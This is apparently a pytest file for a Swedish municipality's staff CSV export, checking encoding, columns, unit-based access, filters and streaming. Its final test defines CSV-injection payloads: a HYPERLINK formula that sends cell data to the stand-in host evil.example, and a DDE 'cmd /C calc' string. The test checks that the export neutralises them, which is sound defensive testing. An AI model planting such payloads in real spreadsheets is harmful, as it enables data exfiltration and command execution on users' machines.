"""CSV export for Excel: UTF-8 with a BOM, semicolons, a column per question, only the user's units."""

from __future__ import annotations

import csv
import io

import pytest
from conftest import Staff, copy_submissions, reread
from sqlalchemy import select
from sqlalchemy.orm import Session

from app.models import Submission

PARKING = "parkeringstillstand-rorelsehindrade"
GENERIC = ["Ärendenummer", "E-tjänst", "Mottaget", "Status", "Handläggare", "Språk"]
PARKING_QUESTIONS = [
    "Är det en ny ansökan?",
    "Numret på ditt nuvarande tillstånd",
    "Ska du köra bilen själv?",
    "Behöver du hjälp av föraren även när du har lämnat bilen?",
    "Personnummer",
    "Förnamn",
    "Efternamn",
    "Adress",
    "Postnummer",
    "Ort",
    "Telefonnummer",
    "E-postadress",
    "Vilka hjälpmedel använder du när du förflyttar dig?",
    "Beskriv hur ditt rörelsehinder påverkar dig",
    "Hur länge tror du att du kommer att behöva tillståndet?",
    "Läkarintyg",
    "Så behandlar vi dina personuppgifter",
]


@pytest.fixture(autouse=True)
def _mail(mail_kept_in_outbox: None) -> None:
    pass


def export(staff: Staff, query: str = "") -> tuple[bytes, list[list[str]], object]:
    response = staff.raw("GET", "/staff/export.csv" + query)
    assert response.status_code == 200
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    return raw, rows, response


def test_export_of_one_e_service_has_a_column_per_question(db: Session, login_as, make_submission) -> None:
    first, _ = make_submission(PARKING, fornamn="Åsa", efternamn="Öberg", personnummer="19811218-9876")
    second, _ = make_submission(
        PARKING, fornamn="Märta", efternamn='Ek; "Kalla"', beskrivning="Kan gå 50 meter.\nSedan måste jag vila."
    )
    officer = login_as("staff", "socialforvaltningen", name="Göran Handläggare")
    reread(db)
    db.scalar(select(Submission).where(Submission.reference == first)).assigned_to_id = officer.user.id
    db.commit()

    raw, rows, response = export(officer, f"?eservice={PARKING}")
    assert response.mimetype == "text/csv"
    assert f'filename="arenden-{PARKING}-' in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    header, *cases = rows
    assert header == GENERIC + PARKING_QUESTIONS
    assert b";" in raw.split(b"\r\n", 1)[0]
    assert [row[0] for row in cases] == [second, first]  # newest first, a row per case
    assert all(len(row) == len(header) for row in cases)

    by_column = {reference: dict(zip(header, row, strict=True)) for reference, row in ((r[0], r) for r in cases)}
    asa = by_column[first]
    assert asa["E-tjänst"] == "Ansökan om parkeringstillstånd för rörelsehindrade"
    assert asa["Status"] == "Mottaget" and asa["Språk"] == "sv"  # the status as staff see it
    assert asa["Handläggare"] == "Göran Handläggare"
    assert asa["Personnummer"] == "19811218-9876"
    assert asa["Förnamn"] == "Åsa" and asa["Efternamn"] == "Öberg"
    assert asa["Postnummer"] == "664 30"
    assert asa["Läkarintyg"].startswith("bilaga.pdf")
    assert "Åsa".encode() in raw and "Öberg".encode() in raw  # UTF-8, not escaped or transliterated
    marta = by_column[second]
    assert marta["Efternamn"] == 'Ek; "Kalla"'
    assert marta["Beskriv hur ditt rörelsehinder påverkar dig"] == "Kan gå 50 meter.\nSedan måste jag vila."
    assert marta["Handläggare"] == ""


def test_export_without_an_e_service_has_the_generic_columns_only(db: Session, login_as, make_submission) -> None:
    parking, _ = make_submission(PARKING)
    officer = login_as("staff", "socialforvaltningen")
    _, rows, response = export(officer)
    assert rows[0] == GENERIC
    assert [row[0] for row in rows[1:]] == [parking]
    assert 'filename="arenden-alla-' in response.headers["Content-Disposition"]


def test_export_holds_only_the_users_units(db: Session, login_as, make_submission) -> None:
    parking, _ = make_submission(PARKING)
    document, _ = make_submission(handling="Protokoll från KS")
    fault, _ = make_submission("felanmalan-gata-park-belysning")
    social = login_as("staff", "socialforvaltningen")
    raw, rows, _ = export(social)
    assert [row[0] for row in rows[1:]] == [parking]
    assert document.encode() not in raw and fault.encode() not in raw and b"Protokoll" not in raw
    # Asking for another unit's e-service gives neither its questions nor its cases.
    _, rows, _ = export(social, "?eservice=begaran-om-allman-handling")
    assert rows == [GENERIC]

    both = login_as("staff", ["kommunledning", "samhallsbyggnad"])
    _, rows, _ = export(both)
    assert [row[0] for row in rows[1:]] == [fault, document]


def test_export_follows_the_inbox_filters(db: Session, login_as, make_submission) -> None:
    minutes, _ = make_submission(handling="Protokoll från KS")
    contract, _ = make_submission(handling="Avtal om snöröjning")
    officer = login_as("staff", "kommunledning")
    _, rows, _ = export(officer, "?q=snoröjning")
    assert [row[0] for row in rows[1:]] == [contract]
    reread(db)
    db.scalar(select(Submission).where(Submission.reference == minutes)).status = "closed"
    db.commit()
    _, rows, _ = export(officer, "?status=closed&eservice=begaran-om-allman-handling")
    assert [row[0] for row in rows[1:]] == [minutes]
    assert rows[1][GENERIC.index("Status")] == "Avslutat"
    assert rows[1][len(GENERIC)] == "Protokoll från KS"


def test_a_large_export_streams_every_case(db: Session, login_as, make_submission) -> None:
    first, _ = make_submission(handling="Protokoll " * 150)
    reread(db)
    original = db.scalar(select(Submission).where(Submission.reference == first))
    copy_submissions(db, original, original.submitted_at, 150)
    db.commit()
    officer = login_as("staff", "kommunledning")
    raw, rows, _ = export(officer, "?eservice=begaran-om-allman-handling")
    assert len(raw) > 64 * 1024 * 2  # more than one chunk
    assert len(rows) == 1 + 151
    assert len({row[0] for row in rows[1:]}) == 151


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2;"Öppna")', "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_an_answer_that_looks_like_a_formula_is_not_a_live_formula_in_excel(
    db: Session, login_as, make_submission
) -> None:
    """The export is made for Excel (the BOM), and residents write the answers: a cell starting with = or @
    is run as a formula when the file is opened (CSV injection, CWE-1236). Such a cell should be neutralised,
    e.g. with a leading apostrophe."""
    for answer in FORMULAS:
        make_submission(handling=answer)
    officer = login_as("staff", "kommunledning")
    _, rows, _ = export(officer, "?eservice=begaran-om-allman-handling")
    cells = [row[len(GENERIC)] for row in rows[1:]]
    assert all(answer.lstrip("=@") in cell for answer, cell in zip(FORMULAS[::-1], cells, strict=True)), cells
    assert [cell for cell in cells if cell.startswith(("=", "@", "+", "-"))] == [], cells
